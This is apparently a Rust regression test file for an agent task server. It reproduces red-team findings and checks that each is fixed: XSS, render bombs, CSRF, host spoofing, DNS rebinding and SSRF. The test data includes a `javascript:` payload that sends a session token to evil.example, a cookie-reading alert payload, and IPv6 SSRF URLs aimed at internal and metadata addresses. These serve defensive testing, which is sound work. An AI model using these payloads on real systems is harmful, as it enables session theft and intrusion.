//! The red-team findings of issue 43, each reproduced against a real server and shown fixed
//! (README "Security", ADR 020): links and images on the board, A2UI surfaces that would draw
//! forever, a removed participant's streams and webhooks, the signed card, cross-site use of a
//! server without credentials, history bytes, sign-in and sign-out from other sites, private
//! files, IPv6 forms of internal addresses. The browser's side of the board (a CSP that blocks
//! inline script, a `javascript:` link not drawn, forms from another site) is `tests/js/
//! security.mjs`, in Chromium.

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use axum::routing::post;
use reqwest::header::{COOKIE, SET_COOKIE};
use reqwest::StatusCode;
use serde_json::{json, Value};
use taskledger_local::AgentChoice;
use taskledger_tests::board::{browser, page, people, session, shared_task, MEDIA};
use taskledger_tests::receiver::{Receiver, Script};
use taskledger_tests::{chat, test_config, Server};

// 1. Stored XSS through a file part's URL, and the board's headers.

#[tokio::test]
async fn a_javascript_url_part_is_not_drawn_as_a_link_and_pages_carry_a_strict_policy() {
    let s = Server::start_with(people()).await;
    let alice = s.as_user("a");
    let id = shared_task(&alice, &[("alice", "admin"), ("bob", "assignee")]).await;
    // bob, a participant who may send, sends the payload of the finding.
    let v = s
        .as_user("b")
        .call(
            "SendMessage",
            json!({"message": {"messageId": "m-x", "role": "ROLE_USER", "taskId": id, "parts": [
                {"url": "javascript:fetch('//evil.example/'+sessionStorage.tl_token)", "filename": "report.pdf"},
                {"url": "https://files.example.com/report.pdf", "filename": "real.pdf"}]},
                "configuration": {"returnImmediately": true}}),
        )
        .await;
    assert!(v.get("error").is_none(), "{v}");
    let cookie = session(&s, "a").await;
    let (status, headers, html) = page(&s, &format!("/board/tasks/{id}"), &cookie).await;
    assert_eq!(status, StatusCode::OK);
    assert!(html.contains("report.pdf"), "the part is shown");
    assert!(
        !html.to_ascii_lowercase().contains("href=\"javascript"),
        "{html}"
    );
    assert!(
        html.contains(r#"href="https://files.example.com/report.pdf""#),
        "http(s) links stay"
    );
    let csp = headers["content-security-policy"].to_str().unwrap();
    for want in [
        "default-src 'none'",
        "script-src 'self'",
        "frame-ancestors 'none'",
        "img-src 'self' data:",
        "base-uri 'none'",
        "form-action 'self'",
    ] {
        assert!(csp.contains(want), "{want}: {csp}");
    }
    assert!(!csp.contains("unsafe-inline"), "{csp}");
    assert_eq!(headers["x-content-type-options"], "nosniff");
    assert_eq!(headers["referrer-policy"], "same-origin");
    assert_eq!(headers["x-frame-options"], "DENY");
    // The sign-in page and the script carry them too.
    for path in ["/board/login", "/board/assets/board.js"] {
        let r = browser()
            .get(format!("{}{path}", s.base))
            .send()
            .await
            .unwrap();
        assert!(
            r.headers().contains_key("content-security-policy"),
            "{path}"
        );
        assert_eq!(r.headers()["x-content-type-options"], "nosniff", "{path}");
    }
}

// 2 and 3. A2UI surfaces from a model agent: the render bomb, links and images.

/// A mock model whose first turn emits `first`, and whose later turns finish.
async fn model_emitting(first: Value) -> (String, Arc<AtomicUsize>) {
    let calls = Arc::new(AtomicUsize::new(0));
    let (c, first) = (calls.clone(), Arc::new(first));
    let app = axum::Router::new().route(
        "/v1/chat/completions",
        post(move |axum::Json(req): axum::Json<Value>| {
            let (c, first) = (c.clone(), first.clone());
            async move {
                let n = c.fetch_add(1, Ordering::SeqCst);
                let last = req["messages"]
                    .as_array()
                    .and_then(|m| m.last())
                    .cloned()
                    .unwrap_or_default();
                axum::Json(match n {
                    0 => chat::answer(
                        None,
                        vec![chat::tool(
                            "u0",
                            "emit_ui",
                            json!({"messages": (*first).clone()}),
                        )],
                    ),
                    // What the tool said, for the test to read back from the task.
                    _ => chat::answer(
                        Some(&format!(
                            "tool said: {}",
                            last["content"].as_str().unwrap_or_default()
                        )),
                        vec![],
                    ),
                })
            }
        }),
    );
    let addr = chat::serve(app).await;
    (format!("http://{addr}/v1"), calls)
}

async fn model_server(first: Value) -> Server {
    let (url, _) = model_emitting(first).await;
    let mut config = people();
    let mut settings = taskledger_infra::llm::OpenAiSettings::new(url, "mock-1");
    settings.initial_backoff = Duration::from_millis(5);
    config.agent = AgentChoice::OpenAi {
        settings,
        max_turns: 10,
        skills_dir: None,
        approve_tools: vec![],
    };
    Server::start_with(config).await
}

const CATALOG: &str = "https://a2ui.org/specification/v0_9/catalogs/basic/catalog.json";

#[tokio::test]
async fn a_surface_that_draws_itself_is_refused_at_emit_and_the_server_keeps_answering() {
    // The finding's 1 KiB surface: a Column whose children are itself four times.
    let bomb = json!([
        {"version": "v0.9", "createSurface": {"surfaceId": "s", "catalogId": CATALOG}},
        {"version": "v0.9", "updateComponents": {"surfaceId": "s", "components": [
            {"id": "root", "component": "Column", "children": ["root", "root", "root", "root"]}]}}
    ]);
    let s = model_server(bomb).await;
    let alice = s.as_user("a");
    let id = alice
        .start_task(
            json!({"messageId": "m-1", "role": "ROLE_USER", "parts": [{"text": "show me"}]}),
        )
        .await;
    let t = alice.wait_state(&id, "TASK_STATE_COMPLETED").await;
    let said = t["status"]["message"]["parts"][0]["text"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    assert!(
        said.contains("contains itself"),
        "the model was told why: {said}"
    );
    assert!(
        !t["artifacts"]
            .as_array()
            .into_iter()
            .flatten()
            .any(|a| a["name"] == "a2ui"),
        "nothing was emitted: {t}"
    );
    // The page draws at once, and the server answers meanwhile.
    let cookie = session(&s, "a").await;
    let started = std::time::Instant::now();
    let (status, _, html) = page(&s, &format!("/board/tasks/{id}"), &cookie).await;
    assert_eq!(status, StatusCode::OK);
    assert!(html.len() < 1 << 20);
    assert!(started.elapsed() < Duration::from_secs(5));
    assert_eq!(alice.total_tasks().await, 1);
}

#[tokio::test]
async fn surface_media_links_are_http_only_and_remote_images_are_not_fetched() {
    let surface = json!([
        {"version": "v0.9", "createSurface": {"surfaceId": "s", "catalogId": CATALOG}},
        {"version": "v0.9", "updateComponents": {"surfaceId": "s", "components": [
            {"id": "root", "component": "Column", "children": ["v", "a", "img"]},
            {"id": "v", "component": "Video", "url": "javascript:alert(document.cookie)", "description": "watch"},
            {"id": "a", "component": "AudioPlayer", "url": "https://media.example.com/a.mp3", "description": "listen"},
            {"id": "img", "component": "Image", "url": "https://tracker.example/pixel.gif", "description": "a pixel"}]}}
    ]);
    let s = model_server(surface).await;
    let alice = s.as_user("a");
    let id = alice
        .start_task(
            json!({"messageId": "m-1", "role": "ROLE_USER", "parts": [{"text": "show me"}]}),
        )
        .await;
    alice.wait_state(&id, "TASK_STATE_COMPLETED").await;
    let cookie = session(&s, "a").await;
    let (_, _, html) = page(&s, &format!("/board/tasks/{id}"), &cookie).await;
    assert!(html.contains("watch"), "the video is shown as text: {html}");
    // (The surface's JSON is shown as text among the artifacts; no link or source takes it.)
    let lower = html.to_ascii_lowercase();
    assert!(
        !lower.contains("href=\"javascript") && !lower.contains("src=\"javascript"),
        "{html}"
    );
    assert!(
        html.contains(r#"<span class="a2ui-media-text">watch</span>"#),
        "{html}"
    );
    assert!(
        html.contains(r#"href="https://media.example.com/a.mp3""#),
        "{html}"
    );
    assert!(
        !html.contains(r#"src="https://tracker.example"#),
        "no remote fetch: {html}"
    );
    assert!(
        html.contains(r#"href="https://tracker.example/pixel.gif""#),
        "offered as a link"
    );
}

// 4. A removed participant keeps nothing: open streams end, webhooks get nothing more.

#[tokio::test]
async fn a_removed_participant_loses_the_open_stream_and_the_webhook() {
    let s = Server::start_with(people()).await;
    let (alice, bob) = (s.as_user("a"), s.as_user("b"));
    let id = shared_task(&alice, &[("alice", "admin"), ("bob", "assignee")]).await;
    let (alices_hook, bobs_hook) = (
        Receiver::start(Script::Always(200)).await,
        Receiver::start(Script::Always(200)).await,
    );
    for (who, hook, cfg) in [(&alice, &alices_hook, "alices"), (&bob, &bobs_hook, "bobs")] {
        let v = who
            .call(
                "CreateTaskPushNotificationConfig",
                json!({"taskId": id, "id": cfg, "url": hook.url}),
            )
            .await;
        assert!(v.get("error").is_none(), "{v}");
    }
    let mut stream = bob.subscribe(&id).await;
    assert!(
        stream.expect().await.data.get("task").is_some(),
        "the Task first"
    );
    // While bob is on the task, he is told of updates.
    let say = |n: u32| {
        json!({"message": {"messageId": format!("tck-input-required-{n}"), "role": "ROLE_USER", "taskId": id,
        "metadata": {"participant_id": "alice"}, "parts": [{"text": format!("update {n}")}]}, "configuration": {"returnImmediately": false}})
    };
    assert!(alice
        .call("SendMessage", say(1))
        .await
        .get("error")
        .is_none());
    bobs_hook
        .wait_for(Duration::from_secs(10), |r| !r.is_empty())
        .await;
    assert!(stream.expect().await.data.get("statusUpdate").is_some());
    // alice removes bob.
    let removed = alice
        .call("SendMessage", json!({"message": {"messageId": "m-remove", "role": "ROLE_USER", "taskId": id,
            "metadata": {"participant_id": "alice"}, "parts": [{"data": {"name": "Release", "goal": "Ship",
            "participants": [{"id": "alice", "kind": "human", "role": "admin"}]}, "mediaType": MEDIA}]},
            "configuration": {"returnImmediately": true}}))
        .await;
    assert!(removed.get("error").is_none(), "{removed}");
    // His open stream ends (it would otherwise stay open: the task is not finished) …
    let rest = tokio::time::timeout(Duration::from_secs(10), async {
        let mut after = Vec::new();
        while let Some(e) = stream.next().await {
            after.push(e);
        }
        after
    })
    .await
    .expect("bob's stream ended");
    assert!(
        rest.iter()
            .all(|e| !e.data.to_string().contains("update 2")),
        "{rest:?}"
    );
    let bobs_before = bobs_hook.seen().len();
    let alices_before = alices_hook.unique().len();
    // … and what happens next reaches alice's webhook, never his.
    assert!(alice
        .call("SendMessage", say(2))
        .await
        .get("error")
        .is_none());
    alices_hook
        .wait_for(Duration::from_secs(10), |r| r.len() > alices_before)
        .await;
    tokio::time::sleep(Duration::from_millis(500)).await;
    assert_eq!(bobs_hook.seen().len(), bobs_before, "nothing more for bob");
    // His config is gone, and the task with it.
    assert_eq!(bob.err("GetTask", json!({"id": id})).await, -32001);
    let configs = alice
        .ok("ListTaskPushNotificationConfigs", json!({"taskId": id}))
        .await;
    let ids: Vec<&str> = configs["configs"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, ["alices"]);
    let reopened = bob
        .stream("SubscribeToTask", json!({"id": id}))
        .await
        .code()
        .await;
    assert_eq!(reopened, -32001);
}

// 5. The signed card names only configured hosts.

fn signing_key_pem() -> String {
    use p256::pkcs8::EncodePrivateKey;
    p256::SecretKey::from_slice(&[7u8; 32])
        .unwrap()
        .to_pkcs8_pem(p256::pkcs8::LineEnding::LF)
        .unwrap()
        .to_string()
}

async fn card_from(
    s: &Server,
    host: &str,
    proto: Option<&str>,
) -> (Value, reqwest::header::HeaderMap) {
    let mut r = s
        .client
        .get(format!("{}/.well-known/agent-card.json", s.base))
        .header("Host", host);
    if let Some(p) = proto {
        r = r.header("X-Forwarded-Proto", p);
    }
    let r = r.send().await.unwrap();
    let headers = r.headers().clone();
    (r.json().await.unwrap(), headers)
}

#[tokio::test]
async fn a_card_for_a_host_a_request_made_up_is_never_signed() {
    let mut config = people();
    config.push.signing_key_pem = Some(signing_key_pem());
    config.allowed_hosts = vec!["a2a.example.com".into()];
    let s = Server::start_with(config).await;
    // A made-up host: the card names it (as before) but is not signed, and says it varies.
    let (card, headers) = card_from(&s, "evil.example", Some("https")).await;
    let url = card["supportedInterfaces"][0]["url"].as_str().unwrap();
    assert_eq!(
        url, "http://evil.example/a2a",
        "X-Forwarded-Proto from nobody trusted is ignored"
    );
    assert!(card.get("signatures").is_none(), "{card}");
    assert!(headers["vary"].to_str().unwrap().contains("Host"));
    // An allowed host: signed.
    let (card, _) = card_from(&s, "a2a.example.com", None).await;
    // Four: over the RFC 8785 form of the 1.0 card and of the merged card, over the 1.x
    // SDKs' form (which leaves out the empty scope list of its security requirement) and over
    // a2a-sdk 0.3's (the card read as its 0.3 model).
    assert_eq!(
        card["signatures"].as_array().map(Vec::len),
        Some(4),
        "{card}"
    );
    // With a public URL, the card is signed and names it, whatever the request says.
    let mut config = people();
    config.push.signing_key_pem = Some(signing_key_pem());
    config.public_url = Some("https://a2a.example.org".into());
    let s = Server::start_with(config).await;
    let (card, headers) = card_from(&s, "evil.example", Some("http")).await;
    assert_eq!(
        card["supportedInterfaces"][0]["url"],
        "https://a2a.example.org/a2a"
    );
    assert_eq!(card["signatures"].as_array().map(Vec::len), Some(4));
    assert_eq!(
        headers.get("vary").and_then(|v| v.to_str().ok()),
        Some("A2A-Version"),
        "not the request's host: varies with the version asked for only"
    );
    // A trusted proxy's forwarded scheme and host are believed.
    let mut config = people();
    config.push.signing_key_pem = Some(signing_key_pem());
    config.proxies = taskledger_app::http::Proxies::parse("127.0.0.1").unwrap();
    config.allowed_hosts = vec!["a2a.example.com".into()];
    let s = Server::start_with(config).await;
    let r = s
        .client
        .get(format!("{}/.well-known/agent-card.json", s.base))
        .header("X-Forwarded-Proto", "https")
        .header("X-Forwarded-Host", "a2a.example.com")
        .send()
        .await
        .unwrap();
    let card: Value = r.json().await.unwrap();
    assert_eq!(
        card["supportedInterfaces"][0]["url"],
        "https://a2a.example.com/a2a"
    );
    assert_eq!(card["signatures"].as_array().map(Vec::len), Some(4));
}

// 6. A server without credentials cannot be driven by another site.

#[tokio::test]
async fn a_server_without_credentials_refuses_cross_site_requests_and_strange_hosts() {
    let s = Server::start_with(test_config()).await;
    let send = json!({"jsonrpc": "2.0", "id": 1, "method": "SendMessage", "params": {"message":
        {"messageId": "m-1", "role": "ROLE_USER", "parts": [{"text": "hi"}]}}});
    let post = |path: &str, headers: Vec<(&'static str, String)>, body: Vec<u8>| {
        let mut r = s.client.post(format!("{}{path}", s.base)).body(body);
        for (k, v) in headers {
            r = r.header(k, v);
        }
        r.send()
    };
    // What `fetch(…, {mode: 'no-cors', body: new Blob([…])})` sends: no Content-Type, the
    // version in the query. Refused, nothing created.
    let body = serde_json::to_vec(&send).unwrap();
    let r = post("/a2a?A2A-Version=1.0", vec![], body.clone())
        .await
        .unwrap();
    let v: Value = r.json().await.unwrap();
    assert_eq!(v["error"]["code"], -32005, "{v}");
    let rest = serde_json::to_vec(&send["params"]).unwrap();
    let r = post(
        "/a2a/rest/message:send?A2A-Version=1.0",
        vec![],
        rest.clone(),
    )
    .await
    .unwrap();
    assert_eq!(r.status(), StatusCode::UNSUPPORTED_MEDIA_TYPE);
    // From another origin, even saying JSON.
    let json = |extra: (&'static str, String)| {
        vec![
            ("Content-Type", "application/json".to_string()),
            ("A2A-Version", "1.0".into()),
            extra,
        ]
    };
    let r = post(
        "/a2a",
        json(("Origin", "https://evil.example".into())),
        body.clone(),
    )
    .await
    .unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    let v: Value = r.json().await.unwrap();
    assert_eq!(v["error"]["data"][0]["reason"], "FORBIDDEN", "{v}");
    let r = post(
        "/a2a/rest/message:send",
        json(("Sec-Fetch-Site", "cross-site".into())),
        rest.clone(),
    )
    .await
    .unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    // A DNS-rebinding page's Host.
    let r = post(
        "/a2a",
        json(("Host", "rebind.evil.example:8080".into())),
        body.clone(),
    )
    .await
    .unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    let r = s
        .client
        .get(format!("{}/a2a/rest/tasks", s.base))
        .header("Host", "rebind.evil.example")
        .header("A2A-Version", "1.0")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    assert_eq!(s.total_tasks().await, 0, "nothing was created");
    // The server's own origin, and clients that are not browsers, are served.
    let r = post("/a2a", json(("Origin", s.base.clone())), body)
        .await
        .unwrap();
    let v: Value = r.json().await.unwrap();
    assert!(v.get("result").is_some(), "{v}");
    assert_eq!(s.total_tasks().await, 1);
}

// 7. History bytes are bounded, and reads by default.

#[tokio::test]
async fn a_task_holds_a_bounded_number_of_history_bytes_and_reads_return_a_bounded_history() {
    use taskledger_domain::ids::DEFAULT_HISTORY_LENGTH;
    use taskledger_domain::task::MAX_HISTORY_BYTES;
    let s = Server::start().await;
    let first = s.send_task("tck-input-required-0", "start").await;
    let id = first["id"].as_str().unwrap().to_string();
    let big = "x".repeat(900 * 1024);
    let count = |v: &Value| v["history"].as_array().map_or(0, Vec::len);
    let mut accepted = 0u64;
    let refusal = loop {
        let v = s
            .call("SendMessage", json!({"message": {"messageId": format!("tck-input-required-{}", accepted + 1),
                "role": "ROLE_USER", "taskId": id, "parts": [{"text": big}]}, "configuration": {"returnImmediately": true, "historyLength": 0}}))
            .await;
        if v.get("error").is_some() {
            break v;
        }
        accepted += 1;
        assert!(accepted < 40, "never refused");
    };
    assert_eq!(refusal["error"]["code"], -32602, "{refusal}");
    let message = refusal["error"]["message"].as_str().unwrap();
    assert!(
        message.contains("bytes of history") && message.contains(&MAX_HISTORY_BYTES.to_string()),
        "{message}"
    );
    assert!(
        accepted * 900 * 1024 <= MAX_HISTORY_BYTES && accepted >= 10,
        "{accepted}"
    );
    // Nothing of the refused message was kept.
    let all = s
        .ok("GetTask", json!({"id": id, "historyLength": 1000}))
        .await;
    let before = count(&all);
    assert!(s.call("SendMessage", json!({"message": {"messageId": "tck-input-required-99", "role": "ROLE_USER", "taskId": id,
        "parts": [{"text": big}]}})).await.get("error").is_some());
    assert_eq!(
        count(
            &s.ok("GetTask", json!({"id": id, "historyLength": 1000}))
                .await
        ),
        before
    );
    // Small messages still fit until the budget's end; a read without historyLength returns at
    // most the default.
    for n in 0..(DEFAULT_HISTORY_LENGTH as usize) {
        let v = s.call("SendMessage", json!({"message": {"messageId": format!("tck-input-required-s{n}"), "role": "ROLE_USER", "taskId": id,
            "parts": [{"text": "s"}]}, "configuration": {"returnImmediately": true, "historyLength": 0}})).await;
        assert!(v.get("error").is_none(), "{v}");
    }
    let t = s.ok("GetTask", json!({"id": id})).await;
    assert_eq!(count(&t), DEFAULT_HISTORY_LENGTH as usize);
}

// 8 and 9. Signing in and out from another site; the session is not the token.

#[tokio::test]
async fn signing_in_or_out_from_another_site_is_refused_and_sign_out_ends_the_session() {
    let s = Server::start_with(people()).await;
    let form = |path: &str, origin: Option<&str>, site: Option<&str>, cookie: Option<&str>| {
        let mut r = browser()
            .post(format!("{}{path}", s.base))
            .header("Content-Type", "application/x-www-form-urlencoded")
            .body("token=m");
        if let Some(o) = origin {
            r = r.header("Origin", o);
        }
        if let Some(v) = site {
            r = r.header("Sec-Fetch-Site", v);
        }
        if let Some(c) = cookie {
            r = r.header(COOKIE, c);
        }
        r.send()
    };
    // Login CSRF: a form on another site signing the visitor in as mallory.
    for (origin, site) in [
        (Some("https://evil.example"), None),
        (None, Some("cross-site")),
        (Some("null"), None),
    ] {
        let r = form("/board/login", origin, site, None).await.unwrap();
        assert_eq!(r.status(), StatusCode::FORBIDDEN, "{origin:?} {site:?}");
        assert!(r.headers().get(SET_COOKIE).is_none());
    }
    // alice signs in; the cookie is a session, not her token.
    let cookie = session(&s, "a").await;
    assert!(
        cookie.starts_with("tl_session=") && cookie != "tl_session=a",
        "{cookie}"
    );
    assert_eq!(page(&s, "/", &cookie).await.0, StatusCode::OK);
    // Logout CSRF: refused, her session goes on.
    let r = form(
        "/board/logout",
        Some("https://evil.example"),
        Some("cross-site"),
        Some(&cookie),
    )
    .await
    .unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    assert!(r.headers().get(SET_COOKIE).is_none());
    assert_eq!(page(&s, "/", &cookie).await.0, StatusCode::OK);
    // Her own sign-out ends it: a copy of the cookie opens nothing more.
    let r = form(
        "/board/logout",
        Some(&s.base),
        Some("same-origin"),
        Some(&cookie),
    )
    .await
    .unwrap();
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    assert_eq!(
        page(&s, "/", &cookie).await.0,
        StatusCode::SEE_OTHER,
        "to the sign-in form"
    );
    // A made-up or altered session opens nothing either.
    assert_eq!(page(&s, "/", "tl_session=a").await.0, StatusCode::SEE_OTHER);
    assert_eq!(
        page(&s, "/", "tl_token=a").await.0,
        StatusCode::SEE_OTHER,
        "the old cookie is not read"
    );
}

// SSRF: IPv6 forms of internal IPv4 addresses.

#[tokio::test]
async fn webhooks_at_ipv6_forms_of_internal_addresses_are_refused() {
    let mut config = test_config();
    config.push.policy = taskledger_domain::push::AddressPolicy::strict();
    let s = Server::start_with(config).await;
    let id = s.send_task("tck-input-required-1", "hi").await["id"]
        .as_str()
        .unwrap()
        .to_string();
    for url in [
        "http://[::127.0.0.1]:8080/hook",
        "http://[::ffff:0:10.0.0.1]/hook",
        "http://[2002:7f00:1::]/hook",
        "http://[2002:a9fe:a9fe::]/latest/meta-data",
        "http://[64:ff9b:1::a00:1]/hook",
    ] {
        let v = s
            .call(
                "CreateTaskPushNotificationConfig",
                json!({"taskId": id, "url": url}),
            )
            .await;
        assert_eq!(v["error"]["code"], -32602, "{url}: {v}");
    }
}

// 10. Files private to the owner; logs without colour codes off a terminal.

#[cfg(unix)]
#[tokio::test]
async fn the_data_directory_and_its_files_are_the_owners_alone_and_logs_carry_no_colour_codes() {
    use std::os::unix::fs::PermissionsExt;
    use std::process::{Command, Stdio};
    use taskledger_tests::binary::{free_port, server_binary, wait_up};

    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    let root =
        std::env::temp_dir().join(format!("taskledger-sec-{}", uuid::Uuid::new_v4().simple()));
    // A directory left readable by an older version, with a store file others could read.
    let dir = root.join("data");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::write(dir.join("cursor.key"), b"an old key that others could read").unwrap();
    std::fs::set_permissions(
        dir.join("cursor.key"),
        std::fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    let port = free_port();
    let mut child = Command::new(server_binary())
        .args(["--store", "sqlite", "--listen"])
        .arg(format!("127.0.0.1:{port}"))
        .arg("--data-dir")
        .arg(&dir)
        .env("RUST_LOG", "info")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("the taskledger binary runs");
    let client = reqwest::Client::new();
    wait_up(&client, port).await;
    let s = Server::at(std::net::SocketAddr::from(([127, 0, 0, 1], port)));
    s.send_task("m-1", "hello").await;
    let _ = child.kill();
    let out = child.wait_with_output().unwrap();
    let logs = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        !logs.contains('\u{1b}'),
        "no ANSI escapes into a pipe: {logs}"
    );
    assert!(
        logs.contains("now private to the owner"),
        "the tightening was reported: {logs}"
    );
    assert_eq!(mode(&dir), 0o700, "the directory");
    let files: Vec<_> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    for want in [
        "taskledger.sqlite",
        "taskledger.stamp",
        "cursor.key",
        "secrets.keys",
        "board-session.key",
    ] {
        assert!(
            files.iter().any(|f| f.ends_with(want)),
            "{want} in {files:?}"
        );
    }
    for f in &files {
        assert_eq!(mode(f), 0o600, "{}", f.display());
    }
    std::fs::remove_dir_all(&root).unwrap();
}
